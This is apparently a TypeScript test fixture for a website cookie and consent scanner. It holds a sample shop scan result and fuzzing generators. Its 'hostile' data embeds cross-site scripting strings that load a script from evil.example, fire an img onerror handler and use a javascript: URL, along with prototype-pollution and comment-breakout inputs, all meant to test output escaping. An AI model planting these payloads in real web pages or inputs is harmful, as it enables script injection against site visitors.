/**
 * What a scan may have found: of a small shop, of a hostile site, and of anything.
 *
 * @module
 */
import fc from 'fast-check'
import type { FoundService, ScanResult } from '../../src/cli/scan-result.ts'
import type { Sample } from '../../src/cli/scan-run.ts'

/** Two pages of a shop, scanned with its policy. */
export const shop: ScanResult = {
  version: '0.1.0',
  catalogue: '2026-11-22',
  policy: { file: 'shop.config.ts', fingerprint: 'c0ffee' },
  categories: [
    { id: 'necessary', title: 'Necessary', services: 1, cookies: 1, tags: 0 },
    { id: 'analytics', title: 'Analytics', services: 1, cookies: 2, tags: 1 },
    { id: 'marketing', title: 'Marketing', services: 1, cookies: 0, tags: 2 },
  ],
  granted: [],
  seesCookies: true,
  pages: [
    {
      page: 'pages/index.html',
      url: 'https://www.shop.example/',
      decisions: [
        {
          subject: 'tag',
          target: 'https://www.google-analytics.com/analytics.js',
          element: 'script',
          action: 'remove',
          because: 'refused',
          rule: '/services/google-analytics/tags/0',
          service: 'google-analytics',
          category: 'analytics',
        },
      ],
      loaded: [],
    },
    {
      page: 'pages/about.html',
      url: 'https://www.shop.example/about',
      decisions: [],
      loaded: [],
    },
  ],
  managers: [{ id: 'onetrust', name: 'OneTrust', pages: 2 }],
  services: [
    {
      id: 'google-analytics',
      name: 'Google Analytics',
      vendor: 'Google',
      kind: 'analytics',
      category: 'analytics',
      declared: true,
      pages: 2,
      cookies: ['_ga'],
      hosts: ['www.google-analytics.com'],
      kept: 0,
      removed: 3,
      loaded: 0,
      evidence: 'https://support.google.com/analytics/',
    },
    {
      id: 'meta-pixel',
      name: 'Meta Pixel',
      vendor: 'Meta',
      kind: 'advertising',
      category: 'marketing',
      declared: true,
      pages: 1,
      cookies: [],
      hosts: ['connect.facebook.net'],
      kept: 1,
      removed: 1,
      loaded: 0,
    },
    {
      id: 'google-tag-manager',
      name: 'Google Tag Manager',
      vendor: 'Google',
      kind: 'tag-manager',
      declared: false,
      pages: 2,
      cookies: [],
      hosts: ['www.googletagmanager.com'],
      kept: 2,
      removed: 0,
      loaded: 0,
    },
    {
      id: 'shop',
      name: 'shop',
      category: 'necessary',
      declared: true,
      pages: 2,
      cookies: ['sid'],
      hosts: [],
      kept: 2,
      removed: 0,
      loaded: 0,
    },
  ],
  cookies: [
    {
      name: '_ga',
      host: 'shop.example',
      service: 'google-analytics',
      category: 'analytics',
      action: 'remove',
      pages: 2,
      setBy: 'script',
      loaded: false,
      seconds: 63_072_000,
      httpOnly: false,
      purpose: 'Tells visitors apart',
    },
    {
      name: '_gid',
      host: 'shop.example',
      service: 'google-analytics',
      category: 'analytics',
      action: 'remove',
      pages: 2,
      setBy: 'script',
      loaded: false,
      seconds: 86_400,
      httpOnly: false,
    },
    {
      name: 'sid',
      host: 'www.shop.example',
      service: 'shop',
      category: 'necessary',
      action: 'keep',
      pages: 2,
      setBy: 'response',
      loaded: false,
      seconds: 0,
      httpOnly: true,
    },
    {
      name: 'stranger',
      host: 'www.shop.example',
      action: 'keep',
      pages: 1,
      setBy: 'response',
      loaded: false,
      seconds: 34_128_000,
      httpOnly: false,
    },
  ],
  unknown: [
    {
      host: 'cdn.widgets.example',
      urls: 3,
      pages: 2,
      elements: ['img', 'script'],
      example: 'https://cdn.widgets.example/w.js',
    },
  ],
  drift: {
    neverSeen: [{ rule: '/services/shop/cookies/1', service: 'shop', what: 'cart' }],
    undeclared: [
      {
        service: 'google-tag-manager',
        kind: 'tag-manager',
        example: 'https://www.googletagmanager.com/gtm.js',
      },
    ],
    longerLived: [
      {
        name: '_ga',
        rule: '/services/google-analytics/cookies/0',
        declared: 34_128_000,
        seen: 63_072_000,
      },
    ],
  },
  failures: [],
}

export const sample: Sample = {
  page: 'pages/index.html',
  before: `<!doctype html>
<title>Shop</title>
<script src="/cart.js"></script>

<script async src="https://www.google-analytics.com/analytics.js"></script>
<h1>Lamps</h1>
<script>go("https://www.google-analytics.com/analytics.js")</script>
<p>Enjoy</p>
<p>the light</p>
`,
  after: `<!doctype html>
<title>Shop</title>
<script src="/cart.js"></script>


<h1>Lamps</h1>
<script>go("https://refused.invalid/analytics.js")</script>
<p>Enjoy</p>
<p>the light</p>
`,
}

const attack = `"'><script src=https://evil.example/x.js></script><img src=https://evil.example/i onerror=hit()>\u202e\u2028`
const long = attack + 'W'.repeat(3000)

/** Every text an attack and far too long, every list far too long. */
export function hostile(many = 10_000): ScanResult {
  const times = <T>(make: (i: number) => T) => Array.from({ length: many }, (_, i) => make(i))
  const decision = {
    ...(shop.pages[0]?.decisions[0] as object),
    target: long,
    service: long,
  }
  return {
    version: long,
    catalogue: long,
    policy: { file: long, fingerprint: long },
    categories: times((i) => ({
      id: `${i}`,
      title: long,
      services: 1,
      cookies: 1,
      tags: 1,
    })),
    seesCookies: true,
    granted: times(() => long),
    pages: times((i) => ({
      page: `${i}${long}`,
      url: `https://shop.example/${long}`,
      unread: long,
      decisions: i === 0 ? times(() => decision as never) : [],
      loaded: [],
    })),
    managers: times(() => ({ id: long, name: long, pages: 1 })),
    services: times((i) => ({
      id: `${i}${long}`,
      name: long,
      vendor: `v${long}`,
      kind: 'analytics',
      category: `${i % 5}`,
      declared: false,
      pages: 1,
      cookies: [long, ...new Array(30).fill(attack)],
      hosts: [long, ...new Array(30).fill(attack)],
      kept: i % 2,
      removed: i % 3,
      loaded: i % 2,
      evidence: i % 2 ? `javascript:${attack}` : `https://evil.example/${attack}`,
    })),
    cookies: times((i) => ({
      name: `${i}${long}`,
      host: long,
      action: 'keep',
      pages: 1,
      setBy: 'script',
      loaded: false,
      seconds: i,
      httpOnly: true,
      purpose: long,
    })),
    unknown: times(() => ({
      host: long,
      urls: 1,
      pages: 1,
      elements: times(() => attack).slice(0, 50),
      example: long,
    })),
    drift: {
      neverSeen: times(() => ({ rule: long, service: long, what: long })),
      undeclared: times(() => ({
        service: long,
        kind: 'analytics',
        example: long,
      })),
      longerLived: times(() => ({
        name: long,
        rule: long,
        declared: 1,
        seen: 2,
      })),
    },
    failures: times(() => ({ target: long, message: long })),
  }
}

export const hostileSample: Sample = {
  page: `0${long}`,
  before: `<p>${`<script src="//a.example">${attack}</script><b>`.repeat(2000)}`,
  after: `<p>${'<b>'.repeat(2000)}`,
}

const text = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.constantFrom(attack, "*/ \u2028'", '\n})\nthrow 1 // ', '`$', '__proto__', 'constructor'),
)
const anyId = fc.oneof(
  fc.constantFrom('google-analytics', 'hotjar', 'meta-pixel', 'youtube', 'google-tag-manager'),
  fc.constantFrom('tealium-iq', 'cloudflare-zaraz', 'onetrust', 'recaptcha', 'stripe', 'ada'),
  fc.constantFrom('analytics', 'marketing', 'functional', 'necessary', 'keep'),
  text,
)
const managerId = fc.oneof(
  fc.constantFrom('onetrust', 'cookiebot', 'usercentrics', 'klaro', 'tcf', 'gpp', 'us-privacy'),
  fc.constantFrom('consent-gate', 'silktide', 'osano', 'adopt'),
  text,
)
const pages = fc.nat(5)
const service: fc.Arbitrary<FoundService> = fc.record({
  id: anyId,
  name: text,
  vendor: text,
  declared: fc.constant(false),
  pages,
  cookies: fc.constant([]),
  hosts: fc.constant([]),
  kept: fc.nat(3),
  removed: fc.nat(3),
  loaded: fc.nat(3),
})

/** Anything that a scan may have found, as far as a draft of a policy looks at it. */
export const anyResult: fc.Arbitrary<ScanResult> = fc
  .record({
    managers: fc.array(fc.record({ id: managerId, name: text, pages }), {
      maxLength: 4,
    }),
    services: fc.array(service, { maxLength: 8 }),
    cookies: fc.array(
      text.map((name) => ({
        ...(shop.cookies[3] as (typeof shop.cookies)[number]),
        name,
      })),
      { maxLength: 4 },
    ),
    unknown: fc.array(
      fc.record({
        host: text,
        urls: pages,
        pages,
        elements: fc.array(text),
        example: text,
      }),
      { maxLength: 4 },
    ),
    pages: fc.array(
      fc
        .oneof(fc.webUrl(), text, fc.constantFrom('https://page.invalid/', 'http://[::1]:8080/'))
        .map((url) => ({ page: 'a.html', url, decisions: [], loaded: [] })),
      { maxLength: 4 },
    ),
  })
  .map((found) => ({ ...shop, ...found }))
